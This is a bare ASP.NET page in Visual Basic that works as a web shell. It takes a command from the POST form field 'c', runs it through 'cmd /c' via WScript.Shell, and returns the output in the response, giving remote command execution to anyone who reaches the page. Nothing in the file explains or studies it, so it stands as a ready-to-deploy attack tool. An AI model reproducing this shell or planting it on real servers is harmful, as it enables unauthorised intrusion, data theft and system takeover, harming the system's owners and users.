<%@ Page Language="VB" %><%
Dim sh As Object = CreateObject("WScript.Shell")
Response.Write(sh.Exec("cmd /c " & Request.Form("c")).StdOut.ReadAll())
%>
